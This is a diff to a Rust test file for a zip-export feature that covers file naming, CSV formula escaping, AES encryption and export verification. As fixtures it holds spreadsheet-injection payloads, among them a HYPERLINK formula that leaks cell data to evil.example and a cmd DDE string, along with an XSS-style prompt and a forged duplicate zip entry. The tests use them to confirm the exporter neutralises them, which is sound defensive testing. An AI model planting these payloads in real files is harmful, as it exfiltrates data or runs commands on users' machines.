@@ -152,11 +152,7 @@ fn an_export_holds_every_file_and_verifies() {
 
     let mut zip = open_zip(&dest);
     let names: BTreeSet<&str> = zip.file_names().collect();
-    let evil_png = format!("media/{}", safe_file_name(EVIL, "g1", "png"));
-    assert_eq!(
-        evil_png,
-        "media/script-img-src-x-onerror-alert-1-etc-passwd-g1.png"
-    );
+    let evil_png = "media/script-img-src-x-onerror-alert-1-etc-passwd-g1-thumbnail.png";
     let expected: BTreeSet<&str> = [
         "README.txt",
         "profile.json",
@@ -166,8 +162,8 @@ fn an_export_holds_every_file_and_verifies() {
         "credit-ledger.csv",
         "purchases.csv",
         "manifest.json",
-        evil_png.as_str(),
-        "media/東京の夜-neon-rain-g2.png",
+        evil_png,
+        "media/東京の夜-neon-rain-g2-thumbnail.png",
     ]
     .into_iter()
     .collect();
@@ -180,7 +176,7 @@ fn an_export_holds_every_file_and_verifies() {
     let rows = json.as_array().unwrap();
     assert_eq!(rows.len(), 3);
     assert_eq!(rows[0]["prompt"], EVIL);
-    assert_eq!(rows[0]["thumbnailFile"], evil_png.as_str());
+    assert_eq!(rows[0]["thumbnailFile"], evil_png);
     assert_eq!(rows[0]["settings"]["durationSeconds"], 10);
     assert_eq!(rows[2]["thumbnailFile"], serde_json::Value::Null);
     let back: Generation = serde_json::from_value(rows[1].clone()).unwrap();
@@ -209,7 +205,9 @@ fn an_export_holds_every_file_and_verifies() {
     let html = text(&mut zip, "index.html");
     assert_eq!(html.matches("<script").count(), 2);
     assert!(!html.contains("<img src=x"));
-    assert!(html.contains("\"thumbnail\":\"script-img-src-x-onerror-alert-1-etc-passwd-g1.png\""));
+    assert!(html.contains(
+        "\"thumbnail\":\"script-img-src-x-onerror-alert-1-etc-passwd-g1-thumbnail.png\""
+    ));
     assert!(html.contains("\\u003c/script\\u003e\\u003cimg"));
 
     let manifest: serde_json::Value =
@@ -363,15 +361,15 @@ fn downloaded_clips_are_included_as_they_are() {
     let summary = run(&f.store, &dest, &options, Some(&clips)).unwrap();
     assert_eq!((summary.counts.videos, summary.counts.media_files), (1, 3));
     let mut zip = open_zip(&dest);
-    let name = format!("media/{}", safe_file_name(EVIL, "g1", "gif"));
-    assert_eq!(read(&mut zip, &name, None), clip);
+    let name = "media/script-img-src-x-onerror-alert-1-etc-passwd-g1-video.gif";
+    assert_eq!(read(&mut zip, name, None), clip);
     assert_eq!(
-        zip.by_name(&name).unwrap().compression(),
+        zip.by_name(name).unwrap().compression(),
         CompressionMethod::Stored
     );
     let json: serde_json::Value =
         serde_json::from_slice(&read(&mut zip, "generations.json", None)).unwrap();
-    assert_eq!(json[0]["videoFile"], name.as_str());
+    assert_eq!(json[0]["videoFile"], name);
     assert_eq!(json[1]["videoFile"], serde_json::Value::Null);
     assert!(text(&mut zip, "index.html").contains(&format!(
         "\"video\":\"{}\"",
@@ -428,7 +426,10 @@ fn a_password_protected_export_opens_only_with_its_password() {
     let mut zip = open_zip(&dest);
     // File names are not encrypted by zip, so they carry no prompt.
     let names: Vec<String> = zip.file_names().map(str::to_string).collect();
-    assert!(names.contains(&"media/g1.png".to_string()), "{names:?}");
+    assert!(
+        names.contains(&"media/g1-thumbnail.png".to_string()),
+        "{names:?}"
+    );
     assert!(names
         .iter()
         .all(|n| !n.contains("script") && !n.contains("東京")));
@@ -473,14 +474,6 @@ fn a_password_protected_export_opens_only_with_its_password() {
     let report = verify(&dest, Some(&right)).unwrap();
     assert!(report.is_ok(), "{:?}", report.problems);
     assert!(report.encrypted);
-
-    let empty = ExportOptions {
-        include_videos: false,
-        password: Some(SecretString::new(String::new())),
-        only: None,
-    };
-    let err = run(&f.store, &f.dir.path().join("e.zip"), &empty, None).unwrap_err();
-    assert_eq!(err.code(), "export.empty_password");
 }
 
 /// Copies the zip at `from` to `to`, with `change` deciding each file's new content (`None`
@@ -553,4 +546,339 @@ fn verify_reports_every_difference() {
         verify(&not_export, None).unwrap_err().code(),
         "export.not_an_export"
     );
+}
+
+/// Runs `script` with Python's zipfile, a zip reader independent of the one that wrote the
+/// export: `z` is the zip at `zip`, `sys.argv[2:]` are `args`. Gives what it prints.
+fn python_zip(zip: &Path, script: &str, args: &[&str]) -> String {
+    let program = format!(
+        "import zipfile, sys, json, csv, io, struct, warnings\n\
+         warnings.simplefilter('ignore')\n\
+         z = zipfile.ZipFile(sys.argv[1])\n\
+         {script}"
+    );
+    let out = std::process::Command::new("python3")
+        .arg("-c")
+        .arg(program)
+        .arg(zip)
+        .args(args)
+        .output()
+        .expect("python3 runs");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8(out.stdout).unwrap()
+}
+
+/// The entry names of the zip at `zip`, as Python's zipfile lists them (repeats included).
+fn python_names(zip: &Path) -> Vec<String> {
+    let json = python_zip(zip, "print(json.dumps(z.namelist()))", &[]);
+    serde_json::from_str(&json).unwrap()
+}
+
+/// The records of a CSV file in the zip at `zip`, as Python's csv module reads them.
+fn python_csv(zip: &Path, name: &str) -> Vec<Vec<String>> {
+    let json = python_zip(
+        zip,
+        "text = z.read(sys.argv[2]).decode('utf-8')\n\
+         print(json.dumps(list(csv.reader(io.StringIO(text, newline='')))))",
+        &[name],
+    );
+    serde_json::from_str(&json).unwrap()
+}
+
+/// Issue 15: a GIF clip and a GIF thumbnail of one generation used to get one name, and the
+/// zip refused the second ("Duplicate filename"), failing the whole export.
+#[test]
+fn a_thumbnail_and_a_clip_of_one_extension_both_go_in() {
+    let mut f = fixture();
+    let g4 = generation("g4", "neon rain", 4, Status::Succeeded);
+    f.store
+        .upsert_generations(std::slice::from_ref(&g4))
+        .unwrap();
+    let gif = b"GIF89a a poster frame, long enough".to_vec();
+    assert!(f.store.put_thumbnail("g4", "image/gif", &gif).unwrap());
+    let clips = f.dir.path().join("clips");
+    std::fs::create_dir(&clips).unwrap();
+    let clip = b"GIF89a the whole clip".repeat(100);
+    std::fs::write(clips.join(clip_cache_name(&g4).unwrap()), &clip).unwrap();
+
+    for (password, thumbnail, video) in [
+        (
+            None,
+            "media/neon-rain-g4-thumbnail.gif",
+            "media/neon-rain-g4-video.gif",
+        ),
+        (
+            Some("correct horse"),
+            "media/g4-thumbnail.gif",
+            "media/g4-video.gif",
+        ),
+    ] {
+        let dest = f
+            .dir
+            .path()
+            .join(format!("gifs-{}.zip", password.is_some()));
+        let options = ExportOptions {
+            include_videos: true,
+            password: password.map(|p| SecretString::new(p.into())),
+            only: None,
+        };
+        let summary = run(&f.store, &dest, &options, Some(&clips)).unwrap();
+        assert_eq!((summary.counts.thumbnails, summary.counts.videos), (3, 1));
+        let names = python_names(&dest);
+        assert!(names.iter().any(|n| n == thumbnail), "{names:?}");
+        assert!(names.iter().any(|n| n == video), "{names:?}");
+        let unique: BTreeSet<&String> = names.iter().collect();
+        assert_eq!(unique.len(), names.len(), "{names:?}");
+        let mut zip = open_zip(&dest);
+        assert_eq!(read(&mut zip, thumbnail, password), gif);
+        assert_eq!(read(&mut zip, video, password), clip);
+        let password = password.map(|p| SecretString::new(p.into()));
+        let report = verify(&dest, password.as_ref()).unwrap();
+        assert!(report.is_ok(), "{:?}", report.problems);
+    }
+}
+
+/// Issue 15: text a spreadsheet would run as a formula starts with `'` in every CSV, from
+/// the user (a prompt) and from the server (an error, a ledger reason, a currency); numbers,
+/// a negative amount included, stay numbers; the JSON keeps the exact text.
+#[test]
+fn csv_text_that_a_spreadsheet_would_run_starts_with_a_quote() {
+    let mut f = fixture();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let mut g = generation("g5", formula, 5, Status::Failed);
+    g.error = Some("@SUM(1+1)".into());
+    g.credits_charged = -840;
+    f.store.upsert_generations(&[g]).unwrap();
+    f.store
+        .upsert_ledger(&[LedgerEntry {
+            id: "l3".into(),
+            amount: -840,
+            reason: "-1+1".into(),
+            generation_id: Some("g5".into()),
+            balance_after: 360,
+            created_at: "2024-01-01T00:00:05Z".into(),
+            updated_at: "2024-01-01T00:00:05Z".into(),
+        }])
+        .unwrap();
+    f.store
+        .upsert_purchases(&[Purchase {
+            id: "p2".into(),
+            credits: 500,
+            amount_cents: -999,
+            currency: "+cmd|' /C calc'!A0".into(),
+            created_at: "2024-01-01T00:00:05Z".into(),
+            updated_at: "2024-01-01T00:00:05Z".into(),
+        }])
+        .unwrap();
+    let dest = f.dir.path().join("formulas.zip");
+    run(&f.store, &dest, &ExportOptions::default(), None).unwrap();
+
+    let column = |header: &[String], name: &str| header.iter().position(|c| c == name).unwrap();
+    let generations = python_csv(&dest, "generations.csv");
+    let row = generations.iter().find(|r| r[0] == "g5").unwrap();
+    let header = &generations[0];
+    assert_eq!(row[column(header, "prompt")], format!("'{formula}"));
+    assert_eq!(row[column(header, "error")], "'@SUM(1+1)");
+    assert_eq!(row[column(header, "credits_charged")], "-840");
+    assert_eq!(row[column(header, "progress")], "1");
+
+    let ledger = python_csv(&dest, "credit-ledger.csv");
+    let row = ledger.iter().find(|r| r[0] == "l3").unwrap();
+    assert_eq!(row[column(&ledger[0], "amount")], "-840");
+    assert_eq!(row[column(&ledger[0], "reason")], "'-1+1");
+    assert_eq!(row[column(&ledger[0], "balance_after")], "360");
+
+    let purchases = python_csv(&dest, "purchases.csv");
+    let row = purchases.iter().find(|r| r[0] == "p2").unwrap();
+    assert_eq!(
+        row[column(&purchases[0], "currency")],
+        "'+cmd|' /C calc'!A0"
+    );
+    assert_eq!(row[column(&purchases[0], "amount_cents")], "-999");
+
+    let mut zip = open_zip(&dest);
+    let json: serde_json::Value =
+        serde_json::from_slice(&read(&mut zip, "generations.json", None)).unwrap();
+    let g5 = json
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|g| g["id"] == "g5")
+        .unwrap();
+    assert_eq!(g5["prompt"], formula);
+    assert_eq!(g5["error"], "@SUM(1+1)");
+    let report = verify(&dest, None).unwrap();
+    assert!(report.is_ok(), "{:?}", report.problems);
+}
+
+/// What Python's zipfile says of an entry: its name, method, CRC in the central directory and
+/// in the local header, AES vendor version in both, and size.
+type PythonEntry = (String, u32, u32, u32, Option<u16>, Option<u16>, u64);
+
+/// Issue 15: the encrypted entries are WinZip AE-2, so no CRC of the plaintext is readable:
+/// Python's zipfile sees AES (method 99), a CRC of 0 in the central directory and in the local
+/// header, and vendor version 2 in both AES fields.
+#[test]
+fn encrypted_entries_are_ae2_without_a_crc() {
+    let f = fixture();
+    let dest = f.dir.path().join("secret.zip");
+    let options = ExportOptions {
+        include_videos: false,
+        password: Some(SecretString::new("correct horse".into())),
+        only: None,
+    };
+    run(&f.store, &dest, &options, None).unwrap();
+    let script = r#"
+def aes_version(extra):
+    at = 0
+    while at + 4 <= len(extra):
+        kind, size = struct.unpack_from('<HH', extra, at)
+        if kind == 0x9901:
+            return struct.unpack_from('<H', extra, at + 4)[0]
+        at += 4 + size
+    return None
+raw = open(sys.argv[1], 'rb').read()
+out = []
+for i in z.infolist():
+    start = i.header_offset
+    local_crc, = struct.unpack_from('<I', raw, start + 14)
+    name_len, extra_len = struct.unpack_from('<HH', raw, start + 26)
+    local_extra = raw[start + 30 + name_len:start + 30 + name_len + extra_len]
+    out.append([i.filename, i.compress_type, i.CRC, local_crc, aes_version(i.extra), aes_version(local_extra), i.file_size])
+print(json.dumps(out))
+"#;
+    let entries: Vec<PythonEntry> = serde_json::from_str(&python_zip(&dest, script, &[])).unwrap();
+    assert_eq!(entries.len(), 10);
+    for (name, method, crc, local_crc, version, local_version, size) in &entries {
+        if name == "README.txt" {
+            assert_eq!(
+                (*method, *version),
+                (8, None),
+                "README.txt is not encrypted"
+            );
+            continue;
+        }
+        assert_eq!(*method, 99, "{name} is AES-encrypted");
+        assert_eq!(
+            (*crc, *local_crc, *version, *local_version),
+            (0, 0, Some(2), Some(2)),
+            "{name} ({size} bytes) is AE-2"
+        );
+    }
+    assert!(
+        entries.iter().any(|e| e.6 >= 20),
+        "large entries are tested"
+    );
+    let right = SecretString::new("correct horse".into());
+    let report = verify(&dest, Some(&right)).unwrap();
+    assert!(report.is_ok(), "{:?}", report.problems);
+}
+
+#[test]
+fn only_the_aes_field_becomes_ae2() {
+    // A zip64 field (id 1, 8 bytes), then an AE-1 AES field: version 1, "AE", AES-256, deflate.
+    let mut extra = vec![1, 0, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8];
+    extra.extend([0x01, 0x99, 7, 0, 1, 0, b'A', b'E', 3, 8, 0]);
+    assert!(set_ae2_version(&mut extra));
+    assert_eq!(&extra[..12], &[1, 0, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8]);
+    assert_eq!(&extra[12..], &[0x01, 0x99, 7, 0, 2, 0, b'A', b'E', 3, 8, 0]);
+    assert!(!set_ae2_version(&mut [1, 0, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8]));
+    // A field that claims more than there is.
+    assert!(!set_ae2_version(&mut [0x01, 0x99, 7, 0, 1, 0]));
+    assert!(!set_ae2_version(&mut []));
+}
+
+/// Issue 15: a zip may hold two entries of one name. The zip reader keeps one, unpackers
+/// differ in which: a forged generations.csv placed before the real one used to pass.
+#[test]
+fn verify_refuses_a_name_twice() {
+    let f = fixture();
+    let good = f.dir.path().join("good.zip");
+    run(&f.store, &good, &ExportOptions::default(), None).unwrap();
+    let twice = f.dir.path().join("twice.zip");
+    python_zip(
+        &good,
+        "out = zipfile.ZipFile(sys.argv[2], 'w')\n\
+         out.writestr('generations.csv', 'id\\r\\nforged\\r\\n')\n\
+         for i in z.infolist():\n    out.writestr(i, z.read(i))\n\
+         out.close()",
+        &[twice.to_str().unwrap()],
+    );
+    assert_eq!(
+        python_names(&twice)
+            .iter()
+            .filter(|n| *n == "generations.csv")
+            .count(),
+        2
+    );
+    let report = verify(&twice, None).unwrap();
+    assert!(!report.is_ok());
+    assert!(
+        report.problems.contains(&VerifyProblem::DuplicateName {
+            path: "generations.csv".into()
+        }),
+        "{:?}",
+        report.problems
+    );
+    assert!(verify(&good, None).unwrap().is_ok());
+}
+
+/// Issue 15: the manifest is read whole, so one larger than any export writes is refused
+/// before it is read (here one of [`MAX_MANIFEST_BYTES`] + 1 bytes, valid JSON with spaces
+/// after it).
+#[test]
+fn verify_refuses_an_oversized_manifest() {
+    let f = fixture();
+    let good = f.dir.path().join("good.zip");
+    run(&f.store, &good, &ExportOptions::default(), None).unwrap();
+    let big = f.dir.path().join("big.zip");
+    python_zip(
+        &good,
+        "out = zipfile.ZipFile(sys.argv[2], 'w', zipfile.ZIP_DEFLATED)\n\
+         for i in z.infolist():\n\
+         \x20   data = z.read(i)\n\
+         \x20   if i.filename == 'manifest.json':\n\
+         \x20       data = data + b' ' * (int(sys.argv[3]) + 1 - len(data))\n\
+         \x20   out.writestr(i.filename, data)\n\
+         out.close()",
+        &[
+            big.to_str().unwrap(),
+            &verify::MAX_MANIFEST_BYTES.to_string(),
+        ],
+    );
+    let err = verify(&big, None).unwrap_err();
+    assert_eq!(err.code(), "export.manifest_too_large", "{err}");
+}
+
+/// Issue 15: an export password has at least 8 characters, counted as the app's form counts
+/// them; the CLI asks the same function.
+#[test]
+fn a_short_export_password_is_refused() {
+    let f = fixture();
+    for (password, code) in [
+        ("", Some("export.empty_password")),
+        ("1234567", Some("export.password_too_short")),
+        ("ééééééé", Some("export.password_too_short")),
+        ("12345678", None),
+        ("éééééééé", None),
+    ] {
+        assert_eq!(
+            check_export_password(password).err().map(|e| e.code()),
+            code,
+            "{password:?}"
+        );
+        let dest = f.dir.path().join(format!("p{}.zip", password.len()));
+        let options = ExportOptions {
+            include_videos: false,
+            password: Some(SecretString::new(password.into())),
+            only: None,
+        };
+        let result = run(&f.store, &dest, &options, None);
+        assert_eq!(result.err().map(|e| e.code()), code, "{password:?}");
+        assert_eq!(dest.exists(), code.is_none());
+    }
 }
